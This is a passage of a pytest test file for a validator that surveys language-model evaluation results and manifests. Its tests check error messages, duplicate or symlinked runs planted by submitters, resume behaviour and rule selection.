    first = Journal(tmp_path, resume=False)
    first.record([("k" * 64, rows_text([blank_row("x", "", "", "")]))])
    with pytest.raises(JournalExists, match="another survey is writing .* now; wait for it to end"):
        Journal(tmp_path, resume=True)
    first.close()
    again = Journal(tmp_path, resume=True)  # the lock goes with the survey that held it
    assert list(again.done) == ["k" * 64]
    again.close()


def test_an_existing_survey_is_not_overwritten_without_resume(corpus, one_go):
    result = lbnorm("survey", str(corpus[0]), "--out", str(one_go))
    assert result.returncode == 2
    assert "already holds a survey" in result.stderr and "--resume" in result.stderr


@pytest.mark.parametrize(
    "args, message",
    [
        (["no/such/folder"], "no such folder"),
        (["--scheduler", "tcp://127.0.0.1:1", "--local-cluster", "2", "."], "not both"),
        (
            ["--workers", "2", "--local-cluster", "2", "."],
            "--workers sets the local pool's processes, and "
            "--local-cluster runs on a Dask cluster's workers instead",
        ),
        (
            ["--scheduler", "tcp://127.0.0.1:1", "--workers", "4", "."],
            "and --scheduler runs on a Dask cluster's",
        ),
    ],
)
def test_usage_errors_exit_2(tmp_path, args, message):
    result = lbnorm("survey", "--out", str(tmp_path / "out"), *args)
    assert result.returncode == 2
    assert message in result.stderr


@pytest.mark.parametrize(
    "name, text, message",
    [
        (
            "dup.csv",
            "results,drop/f1,drop/f1\n{run},99,{f1}\n",
            "the column 'drop/f1' appears twice in the header",
        ),
        (
            "extra.csv",
            "results,drop/f1\n{run},{f1},99\n",
            "entry 1 has 3 cells, but the header names 2 columns",
        ),
        (
            "dup.json",
            '[{{"results": "{run}", "drop/f1": 99, "drop/f1": {f1}}}]',
            "the key 'drop/f1' appears twice",
        ),
        (
            "nested.json",
            '[{{"results": "{run}", "published": {{"drop": {{"f1": 99}}}}}}]',
            "'published' must map '<task>/<metric>' to a score",
        ),
        ("list.json", '[{{"results": "{run}", "published": [99]}}]', "'published' must map"),
        (
            "collide.json",
            '[{{"results": "{run}", "drop/f1": 99, "published": {{"drop/f1": {f1}}}}}]',
            "drop/f1 is given both in 'published' and beside it",
        ),
    ],
)
def test_a_manifest_that_would_drop_a_published_score_is_refused(tmp_path, name, text, message):
    """Each of these would keep only one of two published values, or none, with exit 0: it is refused."""
    manifest, values = _one_run_manifest(tmp_path, {"drop/f1": "{f1}"})
    run = manifest.read_text(encoding="utf-8").splitlines()[1].split(",")[0]
    (manifest.parent / name).write_text(
        text.format(run=run, f1=f"{values['f1']:.2f}"), encoding="utf-8"
    )
    result = lbnorm(
        "survey",
        str(manifest.parent / name),
        "--out",
        str(tmp_path / "out"),
        "--published-scale",
        "100",
    )
    assert result.returncode == 2 and message in result.stderr, result.stderr


SPREADSHEET_MANIFESTS = {
    # how a spreadsheet or an editor wrote it: (text, encoding, the message of the refusal or None: surveyed)
    "spaces after the header's commas": ("results, drop/f1\n{run},{f1}\n", "utf-8", None),
    "spaces after every comma": ("model, results, drop/f1\norg/m, {run}, {f1}\n", "utf-8", None),
    "old Mac line ends": ("results,drop/f1\r{run},{f1}\r", "utf-8", None),
    "semicolons": (
        "results;drop/f1\n{run};{f1}\n",
        "utf-8",
        "the header names no 'results' column (it names "
        "'results;drop/f1'); a CSV manifest's first line names its columns, separated by commas",
    ),
    "backslashes": ("results,drop/f1\n{windows},{f1}\n", "utf-8", "write its path with '/'"),
    "a space after the path": (
        "results,drop/f1\n{run} ,{f1}\n",
        "utf-8",
        "its path begins or ends with a space",
    ),
    "UTF-16": (
        "results,drop/f1\n{run},{f1}\n",
        "utf-16",
        "the manifest is not UTF-8 (byte 1 is 0xff); save it as "
        "UTF-8 (a spreadsheet's 'CSV UTF-8')",
    ),
    "UTF-16 without a byte-order mark": (
        "results,drop/f1\n{run},{f1}\n",
        "utf-16-le",
        "the manifest is not UTF-8 (it holds NUL characters, as UTF-16 does); save it as UTF-8",
    ),
}


@pytest.mark.parametrize("case", sorted(SPREADSHEET_MANIFESTS))
def test_a_manifest_a_spreadsheet_wrote_is_read_or_refused_with_the_fix(tmp_path, case):
    """Each refusal names its fix (not 'entry 1 has no results' or Python's 'universal-newline mode'); spaces
    after commas and CR line ends are read."""
    text, encoding, message = SPREADSHEET_MANIFESTS[case]
    manifest, values = _one_run_manifest(tmp_path, {"drop/f1": "{f1}"})
    run = manifest.read_text(encoding="utf-8").splitlines()[1].split(",")[0]
    (manifest.parent / "m.csv").write_text(
        text.format(run=run, windows=run.replace("/", "\\"), f1=f"{values['f1']:.2f}"),
        encoding=encoding,
        newline="",
    )
    result = survey_published(manifest.parent / "m.csv", tmp_path / "out")
    if message is None:
        assert result.returncode == 0, result.stderr
        assert [
            row["reproduced"]
            for row in read_jsonl(tmp_path / "out" / "survey.jsonl")
            if row["task"] == "drop"
        ] == [True]
    else:
        assert result.returncode == 2 and message in result.stderr, result.stderr


def test_a_run_folder_named_like_a_manifest_is_surveyed_as_a_folder(tmp_path):
    """A folder named runs.csv is a folder of runs, not a manifest that cannot be read (Is a directory)."""
    make_corpus(tmp_path / "runs.csv", runs=1, seed=3, fault_rate=0)
    result = lbnorm(
        "survey", str(tmp_path / "runs.csv"), "--out", str(tmp_path / "out"), "--no-plots"
    )
    assert result.returncode == 0, result.stderr
    assert [row["status"] for row in read_jsonl(tmp_path / "out" / "survey.jsonl")] == ["ok", "ok"]


def test_a_run_is_surveyed_once_and_two_runs_of_one_name_are_told_apart(tmp_path):
    """A run reached through two sources would count its findings twice; two files of one name are two runs."""
    for copy in ("a", "b"):
        make_corpus(tmp_path / copy, runs=2, seed=3, fault_rate=0)
    a, b = tmp_path / "a", tmp_path / "b"
    run = next(a.glob("*/results_*.json")).relative_to(a).as_posix()
    (a / "twice.csv").write_text(f"results\n{run}\n./{run}\n", encoding="utf-8")
    hardlink = tmp_path / "elsewhere" / run  # the same file under another name: a hard link
    hardlink.parent.mkdir(parents=True)
    os.link(a / run, hardlink)
    (tmp_path / "hardlinked.csv").write_text(f"results\n{a / run}\n{hardlink}\n", encoding="utf-8")
    cases = [
        (
            [str(a), str(a / MANIFEST)],
            f"{a / MANIFEST}: the results file {run} is also reached through {a}; "
            "give each run once",
        ),
        ([str(a), str(a / run.split("/")[0])], f"is also reached through {a}"),
        (
            [str(a / "twice.csv")],
            f"{a / 'twice.csv'}: the results file ./{run} is listed twice in it",
        ),
        ([str(tmp_path / "hardlinked.csv")], "is listed twice in it"),
        (
            [str(a), str(b)],
            f"two sources hold a run named {run} ({a} and {b}); survey them separately",
        ),
        # one source given twice is refused, not a 'duplicate run' of itself that is never audited
        ([str(a), str(a)], f"{a}: given twice (also as {a}); give each source once"),
        ([str(a), f"{a}/"], f"{a}/: given twice (also as {a}); give each source once"),
        ([str(a / "twice.csv"), str(a / "twice.csv")], "given twice"),
    ]
    for number, (sources, message) in enumerate(cases):
        result = lbnorm("survey", "--out", str(tmp_path / f"out{number}"), *sources)
        assert result.returncode == 2 and message in result.stderr, (sources, result.stderr)


def _planted_tree(tmp_path: Path, plant) -> tuple[list[dict], subprocess.CompletedProcess]:
    """Two honest runs and what `plant(root, results of the first run)` adds; the survey's rows and result."""
    root = tmp_path / "runs"
    make_corpus(root, runs=2, seed=3, fault_rate=0)
    plant(root, sorted(root.glob("*/results_*.json"))[0])
    result = lbnorm("survey", str(root), "--out", str(tmp_path / "out"), "--no-plots")
    return read_jsonl(tmp_path / "out" / "survey.jsonl"), result


def _link_results(root: Path, results: Path, link=os.symlink) -> None:
    evil = root / "evil"
    evil.mkdir()
    link(results, evil / results.name)
    for log in results.parent.glob("samples_*.jsonl"):
        (evil / log.name).write_bytes(log.read_bytes())


def _outward_results(root: Path, results: Path) -> None:
    outside = root.parent / "outside.json"
    outside.write_text(results.read_text(encoding="utf-8"), encoding="utf-8")
    results.unlink()
    results.symlink_to(outside)


def _odd_results(kind: str):
    def plant(root: Path, results: Path) -> None:
        results.unlink()
        {
            "folder": results.mkdir,
            "dangling": lambda: results.symlink_to(root / "nowhere.json"),
            "loop": lambda: results.symlink_to(results),
        }[kind]()

    return plant


def _odd_log(kind: str):
    def plant(root: Path, results: Path) -> None:
        log = next(results.parent.glob("samples_drop_*.jsonl"))
        log.unlink()
        {
            "folder": log.mkdir,
            "dangling": lambda: log.symlink_to(root / "nowhere.jsonl"),
            "loop": lambda: log.symlink_to(log),
        }[kind]()

    return plant


def _linked_run_folder(root: Path, results: Path) -> None:
    outside = root.parent / "outside-run"
    results.parent.rename(outside)
    results.parent.symlink_to(outside)


def _stray_log(name: str):
    def plant(root: Path, results: Path) -> None:
        log = next(results.parent.glob("samples_drop_*.jsonl"))
        (results.parent / name).parent.mkdir(exist_ok=True)
        (results.parent / name).write_bytes(log.read_bytes())

    return plant


TREE_PLANTS = {
    # what a submitter plants in the tree: (plant, the planted run's task, its status, its rules, message part)
    "results symlinked to another run's": (
        _link_results,
        "",
        "duplicate run",
        {"LB101": 1},
        "is the same file as",
    ),
    "results hard-linked to another run's": (
        lambda root, results: _link_results(root, results, os.link),
        "",
        "duplicate run",
        {"LB101": 1},
        "is the same file as",
    ),
    "results symlinked out of the source": (
        _outward_results,
        "",
        "unreadable results",
        {"LB101": 1},
        "resolves outside",
    ),
    **{
        f"results that is a {kind}": (
            _odd_results(kind),
            "",
            "unreadable results",
            {"LB101": 1},
            message,
        )
        for kind, message in (
            ("folder", "is a directory"),
            ("dangling", "no such file"),
            ("loop", "symlink loop"),
        )
    },
    "a run folder that is a symlink": (
        _linked_run_folder,
        "",
        "unlisted folder",
        {"LB111": 1},
        "is a symbolic link, which the survey does not follow",
    ),
    **{
        f"a log that is a {kind}": (_odd_log(kind), "drop", "not audited", {"LB700": 1}, message)
        for kind, message in (
            ("folder", "is a directory"),
            ("dangling", "no such file"),
            ("loop", "symlink loop"),
        )
    },
    # Logs no results file claims are rows of their own, never passed over with exit 0.
    **{
        f"a log {where}": (
            _stray_log(name),
            task,
            "unplaced log",
            {"LB700": 1},
            "no results file of its date",
        )
        for where, name, task in (
            (
                "of a date no results file has",
                "samples_drop_2023-01-01T00-00-00.000000.jsonl",
                "drop",
            ),
            ("without a date", "samples_drop.jsonl", ""),
            (
                "in a folder without a results file",
                "stray/samples_drop_" + hl.DATE + ".jsonl",
                "drop",
            ),
        )
    },
}


@pytest.mark.parametrize("case", sorted(TREE_PLANTS))
def test_what_a_submitter_plants_in_the_tree_is_a_finding_of_its_run_and_the_rest_is_surveyed(
    tmp_path, case
):
    """Each is a row with its finding: neither a refusal of the whole survey (exit 2) nor no row (exit 0)."""
    plant, task, status, rules, message = TREE_PLANTS[case]
    rows, result = _planted_tree(tmp_path, plant)
    assert result.returncode == 1, result.stdout + result.stderr
    planted = [row for row in rows if row["status"] == status and row["task"] == task]
    assert (
        len(planted) == 1
        and planted[0]["rules"] == rules
        and message in planted[0]["first_finding"]
    ), rows
    second = sorted({row["run"] for row in rows})[-1]
    assert [row["status"] for row in rows if row["run"] == second] == [
        "ok",
        "ok",
    ]  # the other run, surveyed


def test_a_run_written_with_output_path_name_json_is_surveyed_as_its_results_date_run(tmp_path):
    """lm-eval --output_path NAME.json writes NAME_<date>.json beside samples_<task>_<date>.jsonl; its logs are
    claimed by it. Found in a folder and given as a source, it is the run the same files
    under results_<date>.json make."""
    usual, named = tmp_path / "usual", tmp_path / "named"
    make_corpus(usual, runs=1, seed=3, fault_rate=0)
    shutil.copytree(usual, named)
    [results] = named.glob("*/results_*.json")
    renamed = results.with_name("my_eval_" + results.name.removeprefix("results_"))
    results.rename(renamed)
    rows = {}
    for name, source in (("usual", usual), ("named", named), ("given", renamed)):
        result = lbnorm("survey", str(source), "--out", str(tmp_path / name), "--no-plots")
        assert result.returncode == 0, result.stdout + result.stderr
        rows[name] = [
            {**row, "run": "", "log": row["log"].rpartition("/")[2]}  # the folder is named as given
            for row in read_jsonl(tmp_path / name / "survey.jsonl")
        ]
    assert rows["named"] == rows["given"] == rows["usual"]
    assert [row["status"] for row in rows["usual"]] == ["ok", "ok"]


def test_a_cut_off_results_file_named_by_lm_evals_output_path_is_its_runs_row_not_a_usage_error(
    tmp_path,
):
    """NAME_<date>.json beside logs of its date, cut off (a partial upload), given as a source, is not a
    manifest that is not valid JSON (exit 2); like results_<date>.json it is its run's row."""
    make_corpus(tmp_path / "runs", runs=1, seed=3, fault_rate=0)
    [results] = (tmp_path / "runs").glob("*/results_*.json")
    named = results.with_name("my_eval_" + results.name.removeprefix("results_"))
    named.write_text(results.read_text(encoding="utf-8")[:1000], encoding="utf-8")
    results.unlink()
    result = lbnorm("survey", str(named), "--out", str(tmp_path / "out"), "--no-plots")
    assert result.returncode == 1, result.stderr
    rows = read_jsonl(tmp_path / "out" / "survey.jsonl")
    assert {row["status"] for row in rows} == {"unreadable results", "not audited"}, rows


@pytest.mark.parametrize(
    "case", ["without logs", "beside results of its date", "a manifest named with a date"]
)
def test_a_json_file_named_as_a_source_is_read_for_what_it_is(tmp_path, case):
    """NAME_<date>.json given as a source, where a folder's listing does not take it for a run, is not read as a
    manifest refused with 'a JSON manifest is a list of objects'. A results file named so is a run
    (without logs: LB700); a manifest whose name ends in a date is still a manifest."""
    make_corpus(tmp_path / "runs", runs=1, seed=3, fault_rate=0)
    [results] = (tmp_path / "runs").glob("*/results_*.json")
    date = results.name.removeprefix("results_").removesuffix(".json")
    named = results.with_name(f"my_eval_{date}.json")
    if case == "without logs":
        results.rename(named)
        for log in named.parent.glob("samples_*.jsonl"):
            log.unlink()
    elif case == "beside results of its date":
        shutil.copy(results, named)
    else:
        named = tmp_path / "runs" / f"board_{date}.json"
        named.write_text(
            json.dumps([{"results": results.relative_to(tmp_path / "runs").as_posix()}])
        )
    result = lbnorm("survey", str(named), "--out", str(tmp_path / "out"), "--no-plots")
    rows = read_jsonl(tmp_path / "out" / "survey.jsonl")
    if case == "without logs":
        assert result.returncode == 1, result.stderr
        assert [(row["status"], row["rules"]) for row in rows] == [("no logs", {"LB700": 1})]
    else:
        assert result.returncode == 0, result.stderr
        assert [row["status"] for row in rows] == ["ok", "ok"]
        assert {row["run"] for row in rows} == {
            str(named)
            if case != "a manifest named with a date"
            else results.relative_to(tmp_path / "runs").as_posix()
        }


@pytest.mark.parametrize(
    "path, hint",
    [
        ("org__m /results.json", "a name in its path begins or ends with a space"),
        ("runs\\org__m/results.json", "write its path with '/'"),
    ],
)
def test_a_manifest_path_that_cannot_be_reached_says_what_looks_wrong_in_it(tmp_path, path, hint):
    (tmp_path / "m.csv").write_text(f"results\n{path}\n", encoding="utf-8")
    result = lbnorm("survey", str(tmp_path / "m.csv"), "--out", str(tmp_path / "out"))
    assert (
        result.returncode == 2 and "cannot be reached (" in result.stderr and hint in result.stderr
    ), result.stderr


def test_a_json_file_ending_in_a_date_is_a_run_only_beside_logs_of_that_date():
    def ref(name):
        return FileRef(f"m/{name}", f"/r/m/{name}", 1, "x")

    date = "2024-10-14T21-09-03.009851"
    runs = runs_in(
        [
            ref(f"my_eval_{date}.json"),
            ref("notes_2024-01-01T00-00-00.json"),
            ref(f"samples_arc_{date}.jsonl"),
        ]
    )
    assert [(run.run, [log.name for log in run.logs], run.orphan) for run in runs] == [
        (f"m/my_eval_{date}.json", [f"m/samples_arc_{date}.jsonl"], False)
    ]
    # beside results_<date>.json of the same date, that file is the run's, and NAME_<date>.json is not a run
    runs = runs_in(
        [ref(f"my_eval_{date}.json"), ref(f"results_{date}.json"), ref(f"samples_arc_{date}.jsonl")]
    )
    assert [run.run for run in runs] == [f"m/results_{date}.json"]


def test_a_log_no_results_file_claims_is_counted_apart_from_the_runs_and_kept_by_a_resume(tmp_path):
    """One run and two such logs read '1 run', not '3 runs ... 3 runs have errors', and --resume keeps them
    rather than running them again."""
    rows, result = _planted_tree(
        tmp_path, _stray_log("samples_drop_2023-01-01T00-00-00.000000.jsonl")
    )
    assert ": 2 runs and 1 unplaced logs, " in result.stdout, result.stdout
    assert "2 runs and 1 sample logs no results file claims (unplaced log)" in (
        tmp_path / "out" / "summary.md"
    ).read_text(encoding="utf-8")
    again = lbnorm(
        "survey", str(tmp_path / "runs"), "--out", str(tmp_path / "out"), "--no-plots", "--resume"
    )
    assert (
        again.returncode == 1
        and "lbnorm survey: 0 of " in again.stderr
        and "note:" not in again.stderr
    ), again.stderr
    assert read_jsonl(tmp_path / "out" / "survey.jsonl") == rows


def test_an_out_folder_inside_a_run_folder_is_not_surveyed(tmp_path):
    """A legacy run folder reads every .jsonl beside results.json as a log: the survey's own files must not be."""
    root = tmp_path / "runs"
    paths = hl.write_legacy_run(
        root / "org__m", [hl.drop_task(hl.SPEC_RUN_PREDICTIONS, hl.SPEC_RUN_GOLDS)]
    )
    out = paths["results"].parent
    first = lbnorm("survey", str(root), "--out", str(out), "--no-plots")
    again = lbnorm("survey", str(root), "--out", str(out), "--no-plots", "--resume")
    assert first.returncode == again.returncode == 0, first.stdout + first.stderr + again.stderr
    rows = read_jsonl(out / "survey.jsonl")
    assert [(row["task"], row["errors"]) for row in rows] == [("drop", 0)], (
        rows
    )  # the DROP run's warnings only


def test_a_link_planted_in_one_source_to_another_sources_run_is_a_row_not_a_refusal(tmp_path):
    """Overlapping sources are the maintainer's (exit 2); a link one source's submitter planted is not."""
    for source in ("a", "b"):
        make_corpus(tmp_path / source, runs=1, seed=3 if source == "a" else 4, fault_rate=0)
    target = next((tmp_path / "a").glob("*/results_*.json"))
    honest_b = next((tmp_path / "b").glob("*/results_*.json")).parent
    honest_b.rename(honest_b.with_name("org__other"))  # run names differ across the sources
    (tmp_path / "b" / "evil").mkdir()
    (tmp_path / "b" / "evil" / target.name).symlink_to(target)
    result = lbnorm(
        "survey",
        str(tmp_path / "a"),
        str(tmp_path / "b"),
        "--out",
        str(tmp_path / "out"),
        "--no-plots",
    )
    assert result.returncode == 1, result.stdout + result.stderr
    rows = read_jsonl(tmp_path / "out" / "survey.jsonl")
    assert [row["run"] for row in rows if row["status"] == "duplicate run"] == [
        f"evil/{target.name}"
    ]
    assert sum(1 for row in rows if row["status"] == "ok") == 4  # both honest runs' two tasks


def test_results_files_given_as_sources_are_runs_named_as_given(tmp_path, monkeypatch):
    """Two models' results files of one date, given directly, are two runs, not 'two sources hold a run
    named results_<date>.json': a results-file source is named as given, not by its bare name."""
    make_corpus(tmp_path / "runs", runs=2, seed=3, fault_rate=0)
    monkeypatch.chdir(tmp_path)
    given = sorted(
        str(path.relative_to(tmp_path)) for path in (tmp_path / "runs").glob("*/results_*.json")
    )
    assert len({Path(name).name for name in given}) == 1  # one date: one bare name
    result = lbnorm("survey", *given, "--out", "out", "--no-plots")
    assert result.returncode == 0, result.stdout + result.stderr
    assert sorted({row["run"] for row in read_jsonl(tmp_path / "out" / "survey.jsonl")}) == given


@pytest.mark.parametrize("link", [os.symlink, os.link], ids=["symbolic", "hard"])
def test_which_of_two_names_of_one_results_file_is_surveyed_does_not_depend_on_the_order_of_sources(
    tmp_path, link
):
    """A hard link has no original, so the first source given cannot keep the run ('a b' and 'b a' would
    write two tables). The run surveyed is the real file's (a symbolic link is the repeat), else the first by name."""
    make_corpus(tmp_path / "a", runs=1, seed=3, fault_rate=0)
    make_corpus(tmp_path / "b", runs=1, seed=4, fault_rate=0)
    next((tmp_path / "b").glob("*/results_*.json")).parent.rename(tmp_path / "b" / "org__other")
    target = next((tmp_path / "a").glob("*/results_*.json"))
    (tmp_path / "b" / "evil").mkdir()
    link(target, tmp_path / "b" / "evil" / target.name)
    tables = []
    for order in (("a", "b"), ("b", "a")):
        out = tmp_path / ("out-" + "".join(order))
        result = lbnorm(
            "survey", *(str(tmp_path / s) for s in order), "--out", str(out), "--no-plots"
        )
        assert result.returncode == 1, result.stdout + result.stderr
        tables.append((out / "survey.jsonl").read_bytes())
    assert tables[0] == tables[1]
    rows = read_jsonl(tmp_path / "out-ab" / "survey.jsonl")
    # a hard link's two names are the same file, audited once either way: 'evil/' comes first by name
    repeat = (
        f"evil/{target.name}"
        if link is os.symlink
        else target.relative_to(tmp_path / "a").as_posix()
    )
    assert [row["run"] for row in rows if row["status"] == "duplicate run"] == [repeat]


@pytest.mark.parametrize(
    "files",
    [[], ["org__m/samples_drop_2024-01-01T00-00-00.jsonl"], ["org__m/notes.txt"]],
    ids=["empty", "logs without results", "no run files"],
)
def test_a_source_without_runs_is_an_error_not_an_empty_survey(tmp_path, files):
    """A mistyped or empty source must not pass as a survey that found nothing wrong."""
    source = tmp_path / "runs"
    source.mkdir()
    for name in files:
        (source / name).parent.mkdir(parents=True, exist_ok=True)
        (source / name).write_text("{}\n", encoding="utf-8")
    result = lbnorm("survey", "--out", str(tmp_path / "out"), str(source))
    assert result.returncode == 2
    assert f"{source}: no run found" in result.stderr and "check the path" in result.stderr
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    "name, text",
    [("runs.csv", "results,model\n"), ("runs.json", "[]"), ("runs2.json", '{"runs": []}')],
)
def test_an_empty_manifest_is_named_as_the_problem(tmp_path, name, text):
    manifest = tmp_path / name
    manifest.write_text(text, encoding="utf-8")
    result = lbnorm("survey", "--out", str(tmp_path / "out"), str(manifest))
    assert result.returncode == 2
    assert f"{manifest}: the manifest lists no runs" in result.stderr
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    "source, folder",
    [
        ("/results_2024-01-01T00-00-00.json", "/"),
        ("results_2024-01-01T00-00-00.json", "."),
        ("runs/org__m/results_2024-01-01T00-00-00.json", "runs/org__m"),
        ("https://host/runs/results.json", "https://host/runs"),
        ("file:///results.json", "file://"),
    ],
)
def test_a_results_file_is_looked_for_in_its_own_folder(monkeypatch, source, folder):
    from validator.survey import sources

    listed = []
    monkeypatch.setattr(
        sources, "list_files", lambda root, *args, **kwargs: listed.append(root) or []
    )
    with pytest.raises(sources.SourceError, match=r": no such results file; check the path"):
        sources.runs_of(source, Limits(), 10)
    assert listed == [folder]


def test_a_manifest_at_the_root_finds_results_at_the_root(monkeypatch):
    from validator.survey import sources

    listed = []
    monkeypatch.setattr(sources, "manifest_entries", lambda *args: [{"results": "results.json"}])
    monkeypatch.setattr(
        sources, "list_files", lambda root, *args, **kwargs: listed.append(root) or []
    )
    with pytest.raises(sources.SourceError, match=r"entry 1: 'results.json' does not exist"):
        sources.runs_of("/runs.csv", Limits(), 10)
    assert listed == ["/"]


@pytest.mark.parametrize(
    "case", ["missing file", "missing folder", "not a results name", "missing source"]
)
def test_a_results_file_that_is_not_there_is_named_with_its_entry_and_the_fix(tmp_path, case):
    """A missing file is named as missing (not as 'not a results file'), a missing folder names its entry,
    and a missing results file given as the source is not searched as a folder."""
    make_corpus(tmp_path / "runs", runs=1, seed=3, fault_rate=0)
    real = (
        next((tmp_path / "runs").glob("*/results_*.json")).relative_to(tmp_path / "runs").as_posix()
    )
    missing = real.replace("results_2024", "results_2099")
    manifest = tmp_path / "runs" / "manifest.csv"
    log = (
        next((tmp_path / "runs").glob("*/samples_drop_*.jsonl"))
        .relative_to(tmp_path / "runs")
        .as_posix()
    )
    entry = {
        "missing file": missing,
        "missing folder": "nowhere/results.json",
        "not a results name": log,
        "missing source": real,
    }[case]
    manifest.write_text(f"results\n{entry}\n", encoding="utf-8")
    source = str(tmp_path / "runs" / missing) if case == "missing source" else str(manifest)
    result = lbnorm("survey", "--out", str(tmp_path / "out"), source)
    assert result.returncode == 2
    assert {
        "missing file": f"{manifest}: entry 1: {entry!r} does not exist; fix the entry's path",
        "missing folder": f"{manifest}: entry 1: {entry!r} cannot be reached (",
        "not a results name": f"{manifest}: entry 1: {entry!r} is not a results file (a .json file)",
        "missing source": f"{source}: no such results file; check the path",
    }[case] in result.stderr
    assert "units to run" not in result.stderr, (
        "the survey is announced only once its sources are read"
    )
    assert not (tmp_path / "out").exists()


def test_an_entry_whose_folder_cannot_be_listed_for_another_reason_gets_no_advice_about_its_path(
    tmp_path,
):
    """Too many files (or no fsspec, or the network) is not reported as a wrong path."""
    make_corpus(tmp_path / "runs", runs=1, seed=3, fault_rate=0)
    real = (
        next((tmp_path / "runs").glob("*/results_*.json")).relative_to(tmp_path / "runs").as_posix()
    )
    manifest = tmp_path / "runs" / "manifest.csv"
    manifest.write_text(f"results\n{real}\n", encoding="utf-8")
    result = lbnorm("survey", "--out", str(tmp_path / "out"), "--max-units", "1", str(manifest))
    assert result.returncode == 2
    assert (
        f"{manifest}: entry 1: {real}: " in result.stderr and "raise --max-units" in result.stderr
    )
    assert "fix the entry's path" not in result.stderr


def test_a_log_symlinked_out_of_the_source_is_not_read(tmp_path):
    root = tmp_path / "runs"
    expected = make_corpus(root, runs=1, seed=3, fault_rate=0)
    ((run, _),) = [key for key in expected if key[1] == "drop"]
    log = next((root / run).parent.glob("samples_drop_*.jsonl"))
    outside = tmp_path / "elsewhere.jsonl"
    log.rename(outside)
    log.symlink_to(outside)
    outcome = survey([str(root)], tmp_path / "out", LocalPool(1))
    row = next(row for row in outcome.rows if row["task"] == "drop")
    assert row["status"] == "not audited" and "outside the workspace" in row["error"]
    assert row["rules"] == {"LB700": 1} and "outside the workspace" in row["first_finding"]


def test_a_worker_resolves_a_re_pointed_source_folder_again_in_its_next_batch(tmp_path):
    """A worker outlives surveys: a source folder that is a symlink (current -> v1, then v2) is resolved
    afresh for each batch, so a log that leads out of v2 is refused once current points there."""
    make_corpus(tmp_path / "v1", runs=1, seed=3, fault_rate=0)
    shutil.copytree(tmp_path / "v1", tmp_path / "v2", symlinks=True)
    log = next((tmp_path / "v2").glob("*/samples_drop_*.jsonl"))
    log.rename(tmp_path / "elsewhere.jsonl")
    log.symlink_to(tmp_path / "elsewhere.jsonl")
    current = tmp_path / "current"
    current.symlink_to(tmp_path / "v1")
    units = plan([str(current)], Limits(), 10_000)

    def drop_row() -> dict:
        rows = [row for text in run_batch(units) for row in json.loads(text)]
        return next(row for row in rows if row["task"] == "drop")

    assert drop_row()["status"] != "not audited"
    current.unlink()
    current.symlink_to(tmp_path / "v2")
    row = drop_row()
    assert row["status"] == "not audited" and "outside the workspace" in row["error"]


@pytest.mark.parametrize(
    "selection", [["--ignore", "LB700"], ["--warn", "LB7"], ["--select", "LB709"]]
)
def test_a_log_the_survey_refused_fails_it_whatever_the_rule_selection(tmp_path, selection):
    """A log never read is not audited, whichever rules are selected: --ignore LB700 cannot make its row
    'findings' with no rule counted and pass the survey (exit 0) on a DROP log it never opened."""
    root = tmp_path / "runs"
    make_corpus(root, runs=1, seed=3, fault_rate=0)
    log = next(root.glob("*/samples_drop_*.jsonl"))
    log.unlink()
    log.symlink_to(tmp_path / "nowhere.jsonl")
    result = lbnorm("survey", str(root), "--out", str(tmp_path / "out"), "--no-plots", *selection)
    assert result.returncode == 1, result.stdout + result.stderr
    assert "1 units not audited" in result.stdout
    row = next(
        row for row in read_jsonl(tmp_path / "out" / "survey.jsonl") if row["task"] == "drop"
    )
    assert row["status"] == "not audited" and "no such file" in row["error"]


def test_a_row_whose_findings_are_all_deselected_is_ok(tmp_path):
    """A row's status follows the rules selected, as its counts do: 'findings' with no rule counted said
    nothing a maintainer could act on."""
    root = tmp_path / "runs"
    make_corpus(root, runs=1, seed=3, fault_rate=0)
    results = next(root.glob("*/results_*.json"))
    data = json.loads(results.read_text(encoding="utf-8"))
    data["results"]["drop"]["f1,none"] += 0.05
    results.write_text(json.dumps(data, indent=2), encoding="utf-8")
    statuses = {}
    for name, selection in (("all", []), ("LB709 ignored", ["--ignore", "LB709"])):
        result = lbnorm(
            "survey", str(root), "--out", str(tmp_path / name), "--no-plots", *selection
        )
        row = next(
            row for row in read_jsonl(tmp_path / name / "survey.jsonl") if row["task"] == "drop"
        )
        statuses[name] = (result.returncode, row["status"], row["rules"])
    assert statuses == {"all": (1, "findings", {"LB709": 1}), "LB709 ignored": (0, "ok", {})}


@pytest.mark.parametrize("hide_config", [False, True])
def test_a_task_without_a_log_fails_the_survey_even_with_its_config_deleted(tmp_path, hide_config):
    """A survey exists to audit every number: a task left without a log is an error (LB707), and deleting the
    task's config as well does not take it out of the table."""
    root = tmp_path / "runs"
    make_corpus(root, runs=1, seed=3, fault_rate=0)
    results = next(root.glob("*/results_*.json"))
    next(results.parent.glob("samples_arc_easy_*.jsonl")).unlink()
    data = json.loads(results.read_text(encoding="utf-8"))
    data["results"]["arc_easy"]["acc,none"] = 0.99
    if hide_config:
        del data["configs"]["arc_easy"]
    results.write_text(json.dumps(data, indent=2), encoding="utf-8")
    result = lbnorm("survey", str(root), "--out", str(tmp_path / "out"), "--no-plots")
    assert result.returncode == 1, result.stdout + result.stderr
    row = next(
        row for row in read_jsonl(tmp_path / "out" / "survey.jsonl") if row["task"] == "arc_easy"
    )
    assert (row["status"], row["rules"], row["errors"]) == ("no log", {"LB707": 1}, 1)


@pytest.mark.parametrize(
    "warn, code, counts",
    [
        ([], 1, (1, 0)),
        (["--warn", "LB707"], 0, (0, 1)),
        (["--warn", "LB7"], 0, (0, 1)),
        (["--warn", "LB101"], 2, None),
    ],
)
def test_a_maintainer_can_report_a_rule_as_a_warning_but_not_one_that_means_unjudged(
    tmp_path, warn, code, counts
):
    """The bound is the maintainer's (--warn), never the submitter's; LB101 and the like stay errors."""
    root = tmp_path / "runs"
    make_corpus(root, runs=1, seed=3, fault_rate=0)
    next(root.glob("*/samples_arc_easy_*.jsonl")).unlink()
    result = lbnorm("survey", str(root), "--out", str(tmp_path / "out"), "--no-plots", *warn)
    assert result.returncode == code, result.stdout + result.stderr
    if counts is None:
        assert "LB101 cannot be ignored or made a warning" in result.stderr
        return
    row = next(
        row for row in read_jsonl(tmp_path / "out" / "survey.jsonl") if row["task"] == "arc_easy"
    )
    assert (row["errors"], row["warnings"]) == counts and row["rules"] == {"LB707": 1}


@pytest.mark.parametrize(
    "value, shown", [(0, 0.0), (True, None), ("0.5", None), (float("nan"), None), (10**400, None)]
)
def test_a_table_number_is_a_finite_float_or_blank(value, shown):
